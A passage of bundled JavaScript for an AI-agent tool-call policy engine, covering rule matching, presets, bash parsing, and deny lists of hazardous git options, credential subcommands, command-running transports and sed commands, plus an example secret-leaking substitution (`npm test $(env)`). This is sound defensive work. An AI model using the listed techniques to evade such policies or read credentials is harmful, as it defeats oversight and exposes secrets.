}
/** The `directory` argument of a shell call, when it is a string. */
function shellDirectory(args) {
    const directory = args.directory;
    return typeof directory === 'string' && directory !== '' ? directory : undefined;
}

;// CONCATENATED MODULE: ./src/policy/policy-engine.ts
/**
 * The policy engine: answers allow, deny or ask_user for a tool call, in place of the person the
 * Gemini CLI would ask. Pure and deterministic for the same rules, call and context (the only
 * state is the per-session `maxCalls` count); the shell analyser is passed in.
 *
 * Semantics:
 * - Rules are tried by effective priority, highest first (`tier + priority/1000`); ties keep the
 *   order they were given in (file order). The first rule whose conditions all hold decides
 *   ("first match wins"). When none does, the answer is deny: nobody is there to ask.
 * - A rule matches when every condition it has holds: tool name (`*`, `mcp_<server>_*`, aliases),
 *   `mcpName`, `argsPattern` (searched in the key-sorted JSON of the arguments), approval modes
 *   (we run in `default`), `interactive` (we never are, so `interactive = true` never matches),
 *   tool annotations, run modes, trust, `pathPatterns` (every path argument matches one), and a
 *   `maxCalls` budget that is not used up yet. Command conditions make a rule shell-only.
 * - An allow rule that matches a call with a path under one of its `excludedPaths` answers
 *   ask_user (a denial in CI) instead, naming the path and the rule.
 * - `maxCalls` counts the calls a rule allowed in this engine's lifetime (one session); a call
 *   that ends up denied is not counted.
 * - Shell calls are judged per sub-command (see `shell-decision.ts`); deny dominates.
 */





/** The reason of the default decision. */
const NO_RULE_REASON = 'No policy rule allows this call.';
function createPolicyEngine(options) {
    const rules = sortRules(options.rules);
    const aliases = options.toolAliases ?? {};
    const homeDir = options.homeDir ?? external_node_os_default().homedir();
    const counter = new rule_matching/* CallCounter */.Xg();
    const matcher = (context) => (rule, subject) => (0,rule_matching/* matchesSubject */.iD)(rule, subject, { context, aliases, homeDir, counter });
    const verdict = (decision, reason, rule, extra = {}) => ({
        decision,
        ...(rule ? { rule } : {}),
        reason,
        decidedBy: (0,rule_matching/* describeDecider */.ST)(rule),
        ...extra,
    });
    /** Every tool except the shell: the first matching rule decides. */
    const decideTool = (call, context) => {
        const subject = subjectOf(call, call.args, context);
        const matches = matcher(context);
        for (const rule of rules) {
            // Command conditions describe shell commands; other tools have none, so they cannot hold.
            if ((0,rule_matching/* hasCommandConditions */.gi)(rule) || !matches(rule, subject))
                continue;
            if (rule.decision === 'deny') {
                return verdict('deny', rule.denyMessage ?? `Denied by the rule at ${(0,rule_matching/* ruleLocation */.eK)(rule)}.`, rule);
            }
            if (rule.decision === 'ask_user') {
                return verdict('ask_user', `The rule at ${(0,rule_matching/* ruleLocation */.eK)(rule)} asks for confirmation.`, rule);
            }
            const excluded = (0,rule_matching/* excludedPathHit */.f3)(rule, subject.paths, homeDir);
            if (excluded)
                return verdict('ask_user', excludedReason(excluded, rule), rule);
            counter.record([rule]);
            return verdict('allow', `Allowed by the rule at ${(0,rule_matching/* ruleLocation */.eK)(rule)}.`, rule);
        }
        return verdict('deny', NO_RULE_REASON, undefined);
    };
    const decideShell = (call, command, analysis, context) => {
        const decision = decideShellCommand(analysis, {
            rules,
            context,
            directory: shellDirectory(call.args),
            homeDir,
            subjectFor: (piece) => subjectOf(call, { ...call.args, command: piece.text }, context),
            commandFor: (piece) => ({
                text: piece.text,
                geminiText: (0,argument_text/* geminiCommandText */.sX)(call.args, piece.text),
            }),
            whole: {
                subject: subjectOf(call, call.args, context),
                command: { text: command, geminiText: (0,argument_text/* geminiCommandText */.sX)(call.args) },
            },
            matches: matcher(context),
        });
        if (decision.decision === 'allow') {
            counter.record(decision.subcommands.flatMap((sub) => (sub.rule ? [sub.rule] : [])));
        }
        const deciders = [
            ...new Set(decision.subcommands
                .filter((sub) => sub.decision === decision.decision)
                .map((sub) => sub.decidedBy ?? (0,rule_matching/* describeDecider */.ST)(sub.rule))),
        ];
        return verdict(decision.decision, decision.reason, decision.rule, {
            subcommands: decision.subcommands,
            ...(decision.decidedBy === undefined ? {} : { decidedBy: decision.decidedBy }),
            // An allowed command may owe its answer to several rules; name them all.
            ...(decision.decision === 'allow' && deciders.length > 1
                ? { decidedBy: deciders.join('; ') }
                : {}),
        });
    };
    return {
        rules,
        async decide(call, context) {
            if (call.toolName !== rule_matching/* SHELL_TOOL_NAME */.Wn)
                return decideTool(call, context);
            const command = call.args.command;
            if (typeof command !== 'string') {
                return verdict('deny', 'The shell call has no command to check.', undefined);
            }
            // The only await: everything after it, including the maxCalls check and count, runs
            // without interruption, so parallel decisions cannot both take a rule's last call.
            const analysis = await analyzeSafely(options.analyzeShell, command);
            return decideShell(call, command, analysis, context);
        },
        isUnconditionallyDenied: (tool, scope) => isUnconditionallyDenied(rules, tool, { ...scope, aliases }),
        declaredTools(tools, scope) {
            return tools.filter((tool) => !isUnconditionallyDenied(rules, tool, { ...scope, aliases }));
        },
    };
}
/** By effective priority, highest first; `Array.prototype.sort` is stable, so ties keep file order. */
function sortRules(rules) {
    return [...rules].sort((a, b) => b.effectivePriority - a.effectivePriority);
}
function subjectOf(call, args, context) {
    const aliases = agentNameAliases(call.toolName, call.kind, args);
    const tool = {
        name: call.toolName,
        ...(call.serverName === undefined ? {} : { serverName: call.serverName }),
        ...(aliases.length === 0 ? {} : { aliases }),
    };
    return {
        tool,
        argsTexts: (0,argument_text/* argumentTexts */.wW)(call.toolName, args),
        ...(call.annotations ? { annotations: call.annotations } : {}),
        paths: (0,rule_matching/* callPaths */.hR)(call.locations, context.workspaceRoot),
    };
}
async function analyzeSafely(analyze, command) {
    try {
        return await analyze(command);
    }
    catch (error) {
        // Fail closed: a command we could not analyse is a command we cannot allow.
        const detail = error instanceof Error ? error.message : String(error);
        return {
            commands: [],
            hazards: [{ kind: 'parse_error', detail: `analysis failed (${detail})` }],
        };
    }
}
/**
 * Whether no call of the tool can be allowed (or asked about) in this scope: walking the rules in
 * order, the first one that can apply to the tool by name, server, mode and trust alone and has
 * no further conditions decides deny — or no rule can apply at all. Rules with further conditions
 * (arguments, command, paths, annotations, an allow budget) apply to some calls only: a deny of
 * that kind lets others fall through, anything else may let some call through.
 */
function isUnconditionallyDenied(rules, tool, scope) {
    const aliases = agentNameAliases(tool.name, tool.kind, {});
    const identity = {
        name: tool.name,
        ...(tool.serverName === undefined ? {} : { serverName: tool.serverName }),
        ...(aliases.length === 0 ? {} : { aliases }),
    };
    const isShell = tool.name === rule_matching/* SHELL_TOOL_NAME */.Wn;
    for (const rule of rules) {
        if (!(0,rule_matching/* matchesTool */.y4)(rule, identity, scope.aliases) || !(0,rule_matching/* matchesRun */.RF)(rule, scope))
            continue;
        if (!isShell && (0,rule_matching/* hasCommandConditions */.gi)(rule))
            continue;
        const conditional = rule.argsPattern !== undefined ||
            (0,rule_matching/* hasCommandConditions */.gi)(rule) ||
            rule.pathPatterns !== undefined ||
            rule.toolAnnotations !== undefined ||
            (rule.maxCalls !== undefined && rule.decision !== 'deny');
        if (conditional) {
            if (rule.decision === 'deny')
                continue;
            return false;
        }
        return rule.decision === 'deny';
    }
    return true;
}

// EXTERNAL MODULE: ./src/policy/load-policy.ts
var load_policy = __webpack_require__(86403);
// EXTERNAL MODULE: ./src/policy/policy-types.ts
var policy_types = __webpack_require__(45578);
// EXTERNAL MODULE: ./src/policy/parse-policy.ts + 5 modules
var parse_policy = __webpack_require__(58691);
// EXTERNAL MODULE: external "node:fs/promises"
var promises_ = __webpack_require__(51455);
// EXTERNAL MODULE: external "node:url"
var external_node_url_ = __webpack_require__(73136);
// EXTERNAL MODULE: ./src/platform/errors.ts
var errors = __webpack_require__(46316);
;// CONCATENATED MODULE: ./src/policy/presets.ts
/**
 * The policies shipped with the Action (`policies/*.toml`, documented in docs/policy.md), which run
 * mode uses which, and the allow rules for the test commands a workflow lists.
 *
 * The preset files sit next to the bundle (the build copies them to `dist/<entry>/policies/`);
 * from the sources they are found at the repository root.
 */








const PRESET_NAMES = (/* unused pure expression or super */ null && (['read-only', 'edit', 'maintenance']));
/**
 * Priority of the rules {@link commandAllowRules} makes: above the presets' own allows (100) and
 * explained denials (50), below their hard denials (900) when loaded in the same tier.
 */
const COMMAND_ALLOW_PRIORITY = 500;
const PRESET_FOR_MODE = {
    review: 'read-only',
    triage: 'read-only',
    invoke: 'edit',
    maintenance: 'maintenance',
};
/** The preset a run of this mode starts from. */
function presetForMode(mode) {
    return PRESET_FOR_MODE[mode];
}
function isPresetName(value) {
    return PRESET_NAMES.includes(value);
}
/** A preset name from an input or flag; anything else is a configuration error. */
function parsePresetName(value, location) {
    const name = value.trim();
    if (isPresetName(name))
        return name;
    throw new ConfigurationError(`unknown policy preset ${JSON.stringify(value)}; expected ${quoteChoices(PRESET_NAMES)}` +
        didYouMean(name, PRESET_NAMES), location);
}
/** Where preset files are looked for, in order: beside the bundle, then the repository root. */
function presetDirectories() {
    const here = (0,external_node_path_.dirname)((0,external_node_url_.fileURLToPath)(import.meta.url));
    return [(0,external_node_path_.join)(here, 'policies'), (0,external_node_path_.resolve)(here, '..', '..', 'policies')];
}
/** The path of a preset's TOML file. A missing one is a packaging bug, not a user error. */
async function findPresetFile(name, options = {}) {
    const directories = options.directories ?? presetDirectories();
    for (const directory of directories) {
        const candidate = (0,external_node_path_.join)(directory, `${name}.toml`);
        try {
            await (0,promises_.access)(candidate);
            return candidate;
        }
        catch {
            // Not in this folder; try the next.
        }
    }
    throw new Error(`The policy preset "${name}" is missing; looked in ${directories.join(', ')}`);
}
/** A preset's rules, labelled `preset:<name>` in rule sources and messages. */
async function loadPreset(name, options = {}) {
    const path = await findPresetFile(name, options);
    return (0,load_policy/* loadPolicyFiles */.gC)([{ path, tier: options.tier ?? 'default', label: `preset:${name}` }]);
}
/**
 * One allow rule per command a workflow or user lists (`["npm test", "npm run lint"]`): the shell
 * command, and each of its sub-commands, must start with it on a word boundary. The shell
 * analysis still applies, so `npm test $(env)` stays denied.
 */
function commandAllowRules(commands, source) {
    return commands.map((raw, index) => {
        const command = raw.trim();
        checkListedCommand(command, index, source);
        return {
            id: `${source.file}#${index}`,
            toolNames: [parse_policy/* SHELL_TOOL_NAME */.Wn],
            commandPrefixes: [command],
            decision: 'allow',
            priority: COMMAND_ALLOW_PRIORITY,
            effectivePriority: policy_types/* TIER_BASE */.H[source.tier] + COMMAND_ALLOW_PRIORITY / 1000,
            source: { file: source.file, line: index + 1, column: 1, tier: source.tier },
        };
    });
}
/** Shell syntax in a listed command could never match one sub-command, so it is a mistake. */
const COMMAND_SYNTAX = [
    {
        token: /&&|\|\||[;&|\n\r]/,
        why: 'list each command on its own (every part of a compound command is checked separately)',
    },
    { token: /[<>]/, why: 'redirections are judged separately (allowRedirection in a [[rule]])' },
    { token: /[$`]/, why: 'expansions and substitutions are never allowed in commands' },
];
function checkListedCommand(command, index, source) {
    const location = { file: source.file };
    if (command === '') {
        throw new errors/* ConfigurationError */.j1(`command ${index + 1} is empty; expected a command such as "npm test"`, location);
    }
    for (const { token, why } of COMMAND_SYNTAX) {
        const found = token.exec(command);
        if (found) {
            throw new errors/* ConfigurationError */.j1(`command ${index + 1} (${JSON.stringify(command)}) contains ${JSON.stringify(found[0])}: ${why}`, location);
        }
    }
}

// EXTERNAL MODULE: external "node:fs"
var external_node_fs_ = __webpack_require__(73024);
// EXTERNAL MODULE: external "node:module"
var external_node_module_ = __webpack_require__(98995);
// EXTERNAL MODULE: external "node:v8"
var external_node_v8_ = __webpack_require__(78877);
;// CONCATENATED MODULE: ./src/policy/bash-parser.ts
/**
 * The bash parser: tree-sitter's bash grammar running in WebAssembly, loaded once per process.
 * This is the only file of the shell analysis that does I/O (loading the runtime and reading the
 * two `.wasm` files).
 *
 * Parsing returns a plain copy of the syntax tree (`ShellSyntaxNode`) so that the analysis is
 * pure code over plain objects and no WebAssembly memory outlives a parse.
 *
 * The bundles in `dist/` have no `node_modules`: the build copies the runtime
 * (`web-tree-sitter.cjs` and `web-tree-sitter.wasm`) and the grammar (`tree-sitter-bash.wasm`)
 * next to each bundle, so those are looked up beside the running code first and in
 * `node_modules` second (running from source, in tests).
 *
 * The runtime is web-tree-sitter's CommonJS build, loaded at run time rather than bundled: its ES
 * module build finds Node's `createRequire` through `await import('module')`, which ncc turns
 * into a namespace without it, so the bundled copy fails to start.
 */




const RUNTIME_JS = {
    file: 'web-tree-sitter.cjs',
    // Resolved with `require` conditions: the CommonJS build.
    specifier: 'web-tree-sitter',
};
const RUNTIME_WASM = {
    file: 'web-tree-sitter.wasm',
    specifier: 'web-tree-sitter/web-tree-sitter.wasm',
};
const BASH_GRAMMAR_WASM = {
    file: 'tree-sitter-bash.wasm',
    specifier: 'tree-sitter-bash/tree-sitter-bash.wasm',
};
/**
 * The path of a runtime file: beside the running module first (the bundles), then the installed
 * package. Throws when neither exists — a broken installation, not a user error.
 */
function locateRuntimeFile(runtimeFile, location) {
    const exists = location.exists ?? external_node_fs_.existsSync;
    const beside = (0,external_node_url_.fileURLToPath)(new URL(`./${runtimeFile.file}`, location.moduleUrl));
    if (exists(beside))
        return beside;
    let installed;
    try {
        installed = (0,external_node_module_.createRequire)(location.moduleUrl).resolve(runtimeFile.specifier);
    }
    catch {
        installed = undefined;
    }
    if (installed !== undefined && exists(installed))
        return installed;
    throw new Error(`The shell parser needs ${runtimeFile.file}, which is neither at ${beside} nor installed as ` +
        `${runtimeFile.specifier}; the installation or the build of dist/ is incomplete.`);
}
let loading;
let loaded;
/**
 * Loads the runtime and the grammar once; later calls return the same parser. A failed load is
 * not cached, so a later call tries again.
 */
function loadBashParser(location) {
    loading ??= createBashParser(location ?? { moduleUrl: import.meta.url }).then((parser) => {
        loaded = parser;
        return parser;
    }, (error) => {
        loading = undefined;
        throw error;
    });
    return loading;
}
/** The parser if `loadBashParser()` has finished, for synchronous callers. */
function loadedBashParser() {
    return loaded;
}
async function createBashParser(location) {
    const runtime = (0,external_node_module_.createRequire)(location.moduleUrl)(locateRuntimeFile(RUNTIME_JS, location));
    const runtimeWasm = locateRuntimeFile(RUNTIME_WASM, location);
    const grammarWasm = locateRuntimeFile(BASH_GRAMMAR_WASM, location);
    // Keep the grammar on V8's baseline WebAssembly compiler: the optimizing tier would recompile
    // the whole grammar in the background, costing both cores of a runner for most of a second and
    // ~30 MB, for a parser that only ever sees short command lines. Set before anything compiles.
    (0,external_node_v8_.setFlagsFromString)('--liftoff-only');
    // The runtime asks for its own wasm by name; answer with the file found above.
    await runtime.Parser.init({ locateFile: () => runtimeWasm });
    const language = await runtime.Language.load(grammarWasm);
    const parser = new runtime.Parser();
    parser.setLanguage(language);
    return { parse: (source, options) => parseWith(parser, source, options) };
}
function parseWith(parser, source, options) {
    const now = options.now ?? (() => performance.now());
    const started = now();
    const progress = { timedOut: false };
    const tree = parser.parse(source, null, {
        // Returning true cancels the parse (the declared type says void; the runtime reads it).
        progressCallback: () => {
            progress.timedOut = now() - started >= options.timeoutMs;
            return progress.timedOut;
        },
    });
    if (!tree) {
        // A cancelled parse would otherwise be resumed by the next call.
        parser.reset();
        if (progress.timedOut)
            return { ok: false, reason: 'timeout' };
        throw new Error('The bash parser returned no tree.');
    }
    try {
        const cursor = tree.walk();
        try {
            return { ok: true, root: copyTree(cursor), hasError: tree.rootNode.hasError };
        }
        finally {
            cursor.delete();
        }
    }
    finally {
        tree.delete();
    }
}
/** Copies the subtree under the cursor; iterative so that deep nesting cannot overflow the stack. */
function copyTree(cursor) {
    const open = () => ({
        node: {
            type: cursor.nodeType,
            isNamed: cursor.nodeIsNamed,
            field: cursor.currentFieldName ?? undefined,
            start: cursor.startIndex,
            end: cursor.endIndex,
            isError: cursor.nodeType === 'ERROR',
            isMissing: cursor.nodeIsMissing,
        },
        children: [],
    });
    const close = (building) => ({
        ...building.node,
        children: building.children,
    });
    const stack = [open()];
    for (;;) {
        if (cursor.gotoFirstChild()) {
            stack.push(open());
            continue;
        }
        for (;;) {
            const done = stack.pop();
            if (done === undefined)
                throw new Error('Syntax tree copy lost its place.');
            const parent = stack[stack.length - 1];
            if (parent === undefined)
                return close(done);
            parent.children.push(close(done));
            if (cursor.gotoNextSibling()) {
                stack.push(open());
                break;
            }
            cursor.gotoParent();
        }
    }
}

;// CONCATENATED MODULE: ./src/policy/option-scan.ts
/** The hazard details for every rule that the arguments trigger. */
function findOptions(args, syntax, rules) {
    const details = [];
    for (const option of scanOptions(args, syntax)) {
        // An exact long name wins over abbreviations of longer ones (`--output` vs `--output-dir`).
        const exact = rules.filter((rule) => ruleMatches(rule, option, false));
        const candidates = exact.length > 0
            ? exact
            : rules.filter((rule) => ruleMatches(rule, option, syntax.abbreviations));
        const rule = candidates.find((r) => !r.value || (option.value !== undefined && r.value(option.value)));
        if (!rule)
            continue;
        const shown = option.value !== undefined && rule.value ? ` ${option.value}` : '';
        details.push(`the option \`${option.written}${shown}\`, which ${rule.why}`);
    }
    return details;
}
function ruleMatches(rule, option, abbreviations) {
    if (option.short !== undefined)
        return rule.short?.includes(option.short) ?? false;
    const written = option.long;
    if (written === undefined || written === '')
        return false;
    return (rule.long ?? []).some((name) => abbreviations ? name.startsWith(written) : name === written);
}
function* scanOptions(args, syntax) {
    for (let i = 0; i < args.length; i++) {
        const arg = args[i]?.literal;
        if (arg === undefined || !arg.startsWith('-') || arg === '-' || arg === '--')
            continue;
        const next = args[i + 1]?.literal;
        if (arg.startsWith('--')) {
            const equals = arg.indexOf('=');
            const long = equals < 0 ? arg.slice(2) : arg.slice(2, equals);
            const value = equals < 0 ? next : arg.slice(equals + 1);
            yield { written: equals < 0 ? arg : arg.slice(0, equals), long, value };
            continue;
        }
        for (let j = 1; j < arg.length; j++) {
            const letter = arg[j] ?? '';
            if (syntax.shortWithValue.includes(letter)) {
                const stuck = arg.slice(j + 1);
                yield { written: `-${letter}`, short: letter, value: stuck === '' ? next : stuck };
                break;
            }
            yield { written: `-${letter}`, short: letter, value: undefined };
        }
    }
}
/**
 * Words that are not literal but could expand into an option: `$x`, `*`, `{-c,x}` … A word whose
 * known beginning rules out a leading `-` (`src/*.ts`) cannot.
 */
function mayExpandToOption(arg) {
    return (arg.literal === undefined && (arg.literalPrefix === '' || arg.literalPrefix.startsWith('-')));
}
/** The long option a written `--name` stands for, when exactly one matches (getopt_long). */
function uniqueLongOption(written, names) {
    const name = written.slice(2);
    if (names.includes(name))
        return name;
    const matches = names.filter((option) => option.startsWith(name));
    return name !== '' && matches.length === 1 ? matches[0] : undefined;
}
function splitLong(arg) {
    const equals = arg.indexOf('=');
    return equals < 0 ? [arg, undefined] : [arg.slice(0, equals), arg.slice(equals + 1)];
}
/** Whether `--written` could abbreviate `option` (GNU getopt accepts unique prefixes). */
function prefixOf(written, option) {
    const name = written.replace(/^--/u, '');
    return name !== '' && option.startsWith(name);
}

;// CONCATENATED MODULE: ./src/policy/git-arguments.ts
/**
 * Arguments that make git run other programs or write files beyond what its subcommand says.
 * Git runs commands named in its configuration (pagers, diff drivers, ssh, hooks, aliases, the
 * fsmonitor), so anything that sets configuration or points git at a repository whose
 * configuration we did not check can run code.
 */

/** Options before the subcommand that take the next word as their value. */
const GLOBAL_WITH_VALUE = new Set([
    '-C',
    '-c',
    '--config-env',
    '--git-dir',
    '--work-tree',
    '--namespace',
    '--super-prefix',
    '--attr-source',
    '--list-cmds',
]);
/** Options before the subcommand that only change how git behaves, not what it runs. */
const HARMLESS_GLOBALS = new Set([
    '-P',
    '--no-pager',
    '--bare',
    '--no-replace-objects',
    '--literal-pathspecs',
    '--glob-pathspecs',
    '--noglob-pathspecs',
    '--icase-pathspecs',
    '--no-optional-locks',
    '--no-lazy-fetch',
    '--no-advice',
    '--namespace',
    '--attr-source',
    '--list-cmds',
    '--version',
    '-v',
    '--help',
    '-h',
    '--html-path',
    '--man-path',
    '--info-path',
    // Without `=path` it only prints where git's programs are.
    '--exec-path',
]);
/** Why each dangerous option before the subcommand is dangerous. */
const DANGEROUS_GLOBALS = {
    '-c': 'sets configuration, which can name commands to run (core.pager, core.sshCommand, alias.*)',
    '--config-env': 'sets configuration from the environment, which can name commands to run',
    '--exec-path': 'makes git run its subcommands from another directory',
    '-C': 'runs git in another directory, whose repository configuration can run commands',
    '--git-dir': 'points git at another repository, whose configuration can run commands',
    '--work-tree': 'points git at another working tree',
    '--super-prefix': 'is internal to git',
    '-p': 'starts a pager, which runs a command',
    '--paginate': 'starts a pager, which runs a command',
};
/** Subcommands that exist to run other programs, or that expose configuration and credentials. */
const DANGEROUS_SUBCOMMANDS = {
    config: 'reads or writes configuration: settings can name commands to run, and actions/checkout keeps the token there',
    credential: 'hands out stored credentials',
    'credential-store': 'hands out stored credentials',
    'credential-cache': 'hands out stored credentials',
    difftool: 'runs an external diff tool',
    mergetool: 'runs an external merge tool',
    'filter-branch': 'runs the filter commands it is given',
    instaweb: 'starts a web server',
    daemon: 'starts a server',
    'send-email': 'sends mail and can run a sendmail command',
    'imap-send': 'can run a tunnel command',
    hook: 'runs hooks',
    shell: 'is a restricted login shell',
    'web--browse': 'starts a browser',
    'remote-ext': 'runs the command in an ext:: address',
    'remote-fd': 'talks to arbitrary file descriptors',
    maintenance: 'can register background jobs',
    p4: 'runs Perforce commands',
    svn: 'runs Subversion commands',
    cvsserver: 'is a server',
    cvsimport: 'runs CVS commands',
    archimport: 'runs Arch commands',
};
/** Subcommands whose first operand is an action that runs a command. */
const DANGEROUS_ACTIONS = {
    bisect: { run: 'runs the command it is given at every step' },
    submodule: { foreach: 'runs the command it is given in every submodule' },
};
/** git's parse-options accepts unique prefixes of long options and clusters of short ones. */
const SUBCOMMAND_SYNTAX = { shortWithValue: '', abbreviations: true };
/** Options of every subcommand (each means the same wherever git accepts it). */
const COMMON_RULES = [
    { long: ['output'], why: 'writes the output to a file' },
    { long: ['output-directory'], why: 'writes files into a directory' },
    { long: ['ext-diff'], why: 'runs the external diff command from the configuration' },
    { long: ['upload-pack'], why: 'names the command that serves a fetch' },
    { long: ['receive-pack'], why: 'names the command that receives a push' },
    { long: ['exec'], why: 'names a command to run' },
    { long: ['unsafe-paths'], why: 'lets a patch write outside the working tree' },
];
/**
 * Options that read a file named by their value, anywhere on disk, and quote its lines back
 * ("bad graft data: <line>", "invalid object name: <line>", blame's own output): a way round
 * read_file's workspace boundary. Rarely needed by an agent, which can read workspace files with
 * its tools, so they are hazards whatever the path.
 */
const ORDER_FILE = { short: 'O', why: 'reads the order of paths from any file' };
const FILE_READING_RULES = {
    blame: [
        { short: 'S', why: 'reads revisions from any file and quotes lines it cannot parse' },
        {
            long: ['ignore-revs-file'],
            why: 'reads revisions from any file and quotes lines it cannot parse',
        },
        { long: ['contents'], why: "shows any file's lines as the blamed version" },
    ],
    diff: [ORDER_FILE, { long: ['no-index'], why: 'compares any two files on disk' }],
    log: [ORDER_FILE],
    show: [ORDER_FILE],
    whatchanged: [ORDER_FILE],
    'diff-tree': [ORDER_FILE],
    'diff-index': [ORDER_FILE],
    'diff-files': [ORDER_FILE],
    'ls-files': [{ short: 'X', long: ['exclude-from'], why: 'reads patterns from any file' }],
    'hash-object': [
        { short: 'w', why: 'stores any file in the repository, where git show prints it' },
    ],
};
/** Options of particular subcommands (short letters mean different things elsewhere). */
const SUBCOMMAND_RULES = {
    'format-patch': [{ short: 'o', why: 'writes files into a directory' }],
    archive: [
        { short: 'o', why: 'writes the archive to a file' },
        { long: ['remote'], why: 'runs an archiver on another host' },
    ],
    clone: [
        { short: 'u', why: 'names the command that serves the fetch' },
        { long: ['template'], why: 'installs hooks from a template directory' },
        { short: 'c', long: ['config'], why: 'sets configuration, which can name commands to run' },
        { long: ['separate-git-dir'], why: 'puts the repository outside the working tree' },
    ],
    init: [
        { long: ['template'], why: 'installs hooks from a template directory' },
        { long: ['separate-git-dir'], why: 'puts the repository outside the working tree' },
    ],
    'ls-remote': [{ short: 'u', why: 'names the command that serves the fetch' }],
    'fetch-pack': [{ long: ['upload-pack'], why: 'names the command that serves the fetch' }],
    grep: [{ short: 'O', long: ['open-files-in-pager'], why: 'opens the matches with a command' }],
    rebase: [
        { short: 'x', why: 'runs a command after each commit' },
        { short: 'i', long: ['interactive'], why: 'starts an editor' },
    ],
    help: [
        {
            short: 'wim',
            long: ['web', 'info', 'man'],
            why: 'starts a browser or a documentation reader',
        },
    ],
    'checkout-index': [{ long: ['prefix'], why: 'writes files under any directory' }],
};
/** Transport addresses that run commands (`ext::sh -c …`) or use raw descriptors. */
const COMMAND_TRANSPORTS = ['ext::', 'fd::'];
function gitArgumentProblems(args) {
    const problems = [];
    for (const arg of args) {
        const known = (arg.literal ?? arg.literalPrefix).toLowerCase();
        const transport = COMMAND_TRANSPORTS.find((prefix) => known.includes(prefix));
        if (transport)
            problems.push(`the \`${transport}\` transport in \`${arg.text}\`, which runs commands`);
    }
    let i = 0;
    for (; i < args.length; i++) {
        const arg = args[i]?.literal;
        if (arg === undefined || !arg.startsWith('-'))
            break;
        const name = arg.startsWith('--') && arg.includes('=') ? arg.slice(0, arg.indexOf('=')) : arg;
        const why = DANGEROUS_GLOBALS[name];
        if (why !== undefined && !(name === '--exec-path' && name === arg)) {
            problems.push(`the git option \`${arg}\`, which ${why}`);
        }
        else if (!HARMLESS_GLOBALS.has(name) && why === undefined) {
            problems.push(`the unknown git option \`${arg}\` before the subcommand`);
        }
        if (GLOBAL_WITH_VALUE.has(arg))
            i++;
    }
    const subcommandWord = args[i];
    if (subcommandWord === undefined)
        return problems;
    const subcommand = subcommandWord.literal;
    if (subcommand === undefined) {
        problems.push(`the git subcommand \`${subcommandWord.text}\`, which is not literal`);
        return problems;
    }
    const rest = args.slice(i + 1);
    const dangerous = DANGEROUS_SUBCOMMANDS[subcommand];
    if (dangerous !== undefined)
        problems.push(`\`git ${subcommand}\`, which ${dangerous}`);
    const action = rest[0]?.literal;
    const actionWhy = action === undefined ? undefined : DANGEROUS_ACTIONS[subcommand]?.[action];
    if (actionWhy !== undefined && action !== undefined) {
        problems.push(`\`git ${subcommand} ${action}\`, which ${actionWhy}`);
    }
    const rules = [
        ...COMMON_RULES,
        ...(SUBCOMMAND_RULES[subcommand] ?? []),
        ...(FILE_READING_RULES[subcommand] ?? []),
    ];
    problems.push(...findOptions(rest, SUBCOMMAND_SYNTAX, rules));
    return problems;
}

;// CONCATENATED MODULE: ./src/policy/sed-script.ts
/**
 * Reads a GNU sed script far enough to find what goes beyond editing a stream: the `e` command and
 * the `e` flag of `s` (run shell commands), `w`/`W` and the `w` flag (write files), and `r`/`R`
 * (read files the script names). A script
 * this reader does not follow is reported too, so nothing is waved through unread.
 *
 * Delimited parts follow GNU sed: a delimiter ends a part wherever it is not escaped, brackets
 * included.
 */
function sedScriptProblems(script) {
    const reader = new SedReader(script);
    try {
        reader.readScript();
    }
    catch (error) {
        if (!(error instanceof NotUnderstood))
            throw error;
        reader.problems.push(`a sed script that could not be read (${error.message})`);
    }
    return reader.problems;
}
class NotUnderstood extends Error {
}
/** Commands that take no argument. */
const PLAIN_COMMANDS = new Set([
    '=',
    'd',
    'D',
    'g',
    'G',
    'h',
    'H',
    'n',
    'N',
    'p',
    'P',
    'x',
    'z',
    'F',
]);
/** Commands with an optional number (`l 70`, `q 5`). */
const NUMBER_COMMANDS = new Set(['l', 'L', 'q', 'Q']);
/** Commands whose argument runs to the end of the line. */
const LINE_COMMANDS = new Set(['a', 'i', 'c', 'r', 'R', 'w', 'W', 'e']);
/** Commands whose label ends at a newline or `;`. */
const LABEL_COMMANDS = new Set(['b', 't', 'T', ':', 'v']);
class SedReader {
    script;
    problems = [];
    i = 0;
    depth = 0;
    constructor(script) {
        this.script = script;
    }
    readScript() {
        for (;;) {
            this.skip(' \t\n;');
            if (this.atEnd())
                break;
            if (this.peek() === '#') {
                this.restOfLine();
                continue;
            }
            this.readCommand();
        }
        if (this.depth !== 0)
            throw new NotUnderstood('unbalanced braces');
    }
    readCommand() {
        const addressed = this.readAddresses();
        this.skip(' \t');
        while (this.peek() === '!') {
            this.i++;
            this.skip(' \t');
        }
        const command = this.next();
        if (command === '{') {
            this.depth++;
            return;
        }
        if (command === '}') {
            this.depth--;
            if (this.depth < 0)
                throw new NotUnderstood('unbalanced braces');
            this.expectEnd();
            return;
        }
        if (PLAIN_COMMANDS.has(command)) {
            this.expectEnd();
            return;
        }
        if (NUMBER_COMMANDS.has(command)) {
            this.skip(' \t');
            this.skip('0123456789');
            this.expectEnd();
            return;
        }
        if (LABEL_COMMANDS.has(command)) {
            if (command === ':' && addressed)
                throw new NotUnderstood('a label with an address');
            this.readUntil('\n;');
            return;
        }
        if (LINE_COMMANDS.has(command)) {
            const argument = this.restOfLine().trim();
            if (command === 'e')
                this.problems.push(`the sed \`e\` command, which runs a shell command`);
            if (command === 'w' || command === 'W') {
                this.problems.push(`the sed \`${command}\` command, which writes the file \`${argument}\``);
            }
            // `r`/`R` insert any file the script names into the output, past the operand check.
            if (command === 'r' || command === 'R') {
                this.problems.push(`the sed \`${command}\` command, which reads the file \`${argument}\``);
            }
            return;
        }
        if (command === 's') {
            this.readSubstitution();
            return;
        }
        if (command === 'y') {
            const delimiter = this.delimiter();
            this.delimited(delimiter);
            this.delimited(delimiter);
            this.expectEnd();
            return;
        }
        throw new NotUnderstood(`unknown command \`${command}\``);
    }
    readSubstitution() {
        const delimiter = this.delimiter();
        this.delimited(delimiter);
        this.delimited(delimiter);
        for (;;) {
            const flag = this.peek();
            if (flag !== undefined && 'gpiImM0123456789'.includes(flag)) {
                this.i++;
            }
            else if (flag === 'e') {
                this.i++;
                this.problems.push('the `e` flag of sed `s`, which runs the result as a shell command');
            }
            else if (flag === 'w') {
                this.i++;
                const file = this.restOfLine().trim();
                this.problems.push(`the \`w\` flag of sed \`s\`, which writes the file \`${file}\``);
                return;
            }
            else {
                break;
            }
        }
        this.expectEnd();
    }
    /** Reads `addr`, `addr,addr`, `addr,+N` or `addr,~N`; true when there was one. */
    readAddresses() {
        if (!this.readAddress())
            return false;
        if (this.peek() === ',') {
            this.i++;
